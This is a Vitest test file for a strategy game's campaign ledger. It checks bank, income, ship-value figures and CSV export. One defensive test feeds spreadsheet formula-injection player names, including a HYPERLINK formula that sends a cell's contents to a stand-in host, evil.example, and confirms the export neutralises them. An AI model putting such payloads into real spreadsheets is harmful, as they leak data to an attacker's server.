import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { campaignLedger, LEDGER_COLUMNS, ledgerCsv, ledgerRows } from '../../../src/rules/thunderdome/ledger.ts';
import type { Development } from '../../../src/rules/thunderdome/state.ts';
import { startedGame } from './harness.ts';

const dev = (owner: string, status: Development['status'] = 'active'): Development => ({
  owner,
  status,
  fleetId: null,
  orderedHalfCycle: 2,
  exposedTo: null,
});

/**
 * The campaign ledger (UTD1.12 "campaign master spreadsheet"). Every figure below is
 * worked out by hand from the rules: UTD8.132 starting BPV 500 + 150 × 3 players = 950; a CA
 * costs 133 and an FF 63 in the sample catalog; UTD4.344 pays 100 per active mine in an owned
 * sector, and p1 received it once at step 2 of her first turn.
 */
describe('UTD1.12 the campaign ledger', () => {
  it('UTD1.12 at the start: seat order, bank, income, home sector, developments, navy', () => {
    const g = startedGame();
    const rows = ledgerRows(g.state, g.catalog);
    expect(rows.map((r) => [r.seat, r.playerId, r.empire])).toEqual([
      [1, 'p1', 'Lyran'],
      [2, 'p2', 'Kzinti'],
      [3, 'p3', 'Hydran'],
    ]);
    // p1: 950 − 133 − 63 = 754, plus 100 from her home mine on turn 1 = 854. p2, p3 have not had a turn.
    expect(rows.map((r) => r.bank)).toEqual(['854', '754', '754']);
    for (const r of rows) {
      expect(r).toMatchObject({
        status: 'active',
        incomePerCycle: '100',
        sectorsOwned: 1,
        home: 1,
        life: 0,
        mineral: 0,
        dead: 0,
        colonies: 1,
        mines: 1,
        forts: 1,
        fleets: 1,
        ships: 2,
        bpvAfloat: '196',
        forfeits: 0,
      });
    }
  });

  it('UTD4.344 income counts only active mines in sectors the player owns; the setting sets the rate', () => {
    const g = startedGame();
    g.patch((s) => {
      const at = (key: string) => s.map!.sectors.find((x) => x.key === key)!;
      Object.assign(at('B'), { type: 'mineral', owner: 'p1', mine: dev('p1') }); // pays
      Object.assign(at('A'), { type: 'mineral', owner: 'p1', mine: dev('p1', 'pending') }); // ordered: not yet
      Object.assign(at('C'), { type: 'mineral', owner: 'p2', mine: dev('p1') }); // p1's mine in p2's sector: pays nobody
      Object.assign(at('X'), { type: 'dead', owner: 'p1' });
      Object.assign(at('E'), { type: 'life', owner: 'p1', colony: dev('p1', 'pending') });
    });
    const [p1, p2] = ledgerRows(g.state, g.catalog);
    // Home + B = 2 paying mines → 200; active mines owned by p1 = home, B, C = 3.
    expect(p1).toMatchObject({
      incomePerCycle: '200',
      mines: 3,
      sectorsOwned: 5,
      home: 1,
      mineral: 2,
      dead: 1,
      life: 1,
      colonies: 1,
    });
    expect(p2).toMatchObject({ incomePerCycle: '100', sectorsOwned: 2, mineral: 1, mines: 1 });
    g.patch((s) => (s.settings['income.perMine'] = 150));
    expect(ledgerRows(g.state, g.catalog)[0]!.incomePerCycle).toBe('300');
  });

  it('UTD4.344 the ledger income is what the next income step pays', () => {
    const g = startedGame();
    g.patch((s) =>
      Object.assign(s.map!.sectors.find((x) => x.key === 'B')!, { type: 'mineral', owner: 'p1', mine: dev('p1') }),
    );
    const expected = ledgerRows(g.state, g.catalog)[0]!.incomePerCycle;
    expect(expected).toBe('200');
    const before = g.events('IncomePaid').length;
    for (const p of ['p1', 'p2', 'p3', 'p1']) {
      if (g.state.turn?.playerId === p) g.do(p, { type: 'end-turn' });
    }
    const paid = g
      .events('IncomePaid')
      .slice(before)
      .map((e) => e.event)
      .filter((e) => e.type === 'IncomePaid' && e.playerId === 'p1');
    expect(paid.map((e) => (e.type === 'IncomePaid' ? e.amount : null))).toEqual([expected]);
  });

  it('BPV afloat: catalog BPV of every ship, crippled, wrecked or in dry dock; bases are not afloat', () => {
    const g = startedGame();
    g.patch((s) => {
      const model = s.ships.find((x) => x.owner === 'p1')!;
      s.ships.push({ ...model, id: 'S901', unitId: 'LYR-DN', crippled: true, bpv: '1' }); // the catalog's 180 counts, not the price paid
      s.ships.push({ ...model, id: 'S902', unitId: 'LYR-DD', fleetId: null, dock: { yardId: 'B1', position: 1 } }); // 79
      s.ships.push({ ...model, id: 'S903', unitId: 'LYR-FF', wrecked: true }); // 63
    });
    const p1 = ledgerRows(g.state, g.catalog)[0]!;
    // 133 + 63 + 180 + 79 + 63 = 518
    expect([p1.ships, p1.bpvAfloat, p1.fleets]).toEqual([5, '518', 1]);
  });

  it('UTD3.31 forfeits and a resigned player stay in the ledger; totals add the columns exactly', () => {
    const g = startedGame();
    g.patch((s) => {
      s.players.find((p) => p.id === 'p2')!.totalForfeits = 2;
      s.players.find((p) => p.id === 'p3')!.status = 'resigned';
      s.players.find((p) => p.id === 'p3')!.bank = '12.5';
    });
    const ledger = campaignLedger(g.state, g.catalog);
    expect(ledger.rows.map((r) => [r.forfeits, r.status])).toEqual([
      [0, 'active'],
      [2, 'active'],
      [0, 'resigned'],
    ]);
    // 854 + 754 + 12.5; 3 × 100; 3 × 196.
    expect(ledger.totals).toMatchObject({
      bank: '1620.5',
      incomePerCycle: '300',
      bpvAfloat: '588',
      sectorsOwned: 3,
      home: 3,
      colonies: 3,
      mines: 3,
      forts: 3,
      fleets: 3,
      ships: 6,
      forfeits: 2,
    });
    // TEST_MAP has 10 sectors; the three homes are owned.
    expect([ledger.unowned, ledger.sectors]).toEqual([7, 10]);
  });

  it('the CSV export has the same figures, quotes what must be quoted, and reads back with a CSV parser', () => {
    const g = startedGame();
    g.patch((s) => (s.players.find((p) => p.id === 'p2')!.name = 'Bob "the Bold", Esq.'));
    const rows = ledgerRows(g.state, g.catalog);
    const csv = ledgerCsv(rows);
    const lines = csv.trimEnd().split('\n');
    expect(lines[0]).toBe(
      'seat,player,empire,status,bank,incomePerCycle,sectorsOwned,home,life,mineral,dead,colonies,mines,forts,fleets,ships,bpvAfloat,forfeits',
    );
    expect(lines[1]).toBe('1,p1,Lyran,active,854,100,1,1,0,0,0,1,1,1,1,2,196,0');
    expect(lines[2]).toBe('2,"Bob ""the Bold"", Esq.",Kzinti,active,754,100,1,1,0,0,0,1,1,1,1,2,196,0');
    const parsed = parse(csv, { columns: true }) as Record<string, string>[];
    expect(parsed).toHaveLength(3);
    for (const [i, r] of rows.entries())
      for (const c of LEDGER_COLUMNS) expect(parsed[i]![c], c).toBe(String(r[c] ?? ''));
  });

  it('UTD1.12 the CSV ledger writes a player named like a formula (=, +, -, @) as text, and keeps numbers numbers', () => {
    const g = startedGame();
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '@SUM(A1:A9)'];
    g.patch((s) => s.players.forEach((p, i) => (p.name = names[i]!)));
    const csv = ledgerCsv(ledgerRows(g.state, g.catalog));
    const parsed = parse(csv, { columns: true }) as Record<string, string>[];
    expect(parsed.map((r) => r['player'])).toEqual(names.map((n) => `'${n}`));
    expect(csv.split('\n')[1]).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    // A cell that is a plain number stays a number; '-2' in a name is text and is escaped.
    expect(parsed[0]!['bank']).toBe('854');
    g.patch((s) => (s.players[0]!.name = '-2+3'));
    const again = parse(ledgerCsv(ledgerRows(g.state, g.catalog)), { columns: true }) as Record<string, string>[];
    expect(again[0]!['player']).toBe("'-2+3");
  });

  it('before the map and the seats: players in joining order, nothing owned', () => {
    const g = startedGame();
    g.patch((s) => {
      s.map = null;
      for (const p of s.players) p.seat = null;
    });
    const ledger = campaignLedger(g.state, g.catalog);
    expect(ledger.rows.map((r) => [r.seat, r.playerId, r.sectorsOwned, r.incomePerCycle])).toEqual([
      [null, 'p1', 0, '0'],
      [null, 'p2', 0, '0'],
      [null, 'p3', 0, '0'],
    ]);
    expect(ledgerCsv(ledger.rows).split('\n')[1]!.startsWith(',p1,')).toBe(true);
  });
});
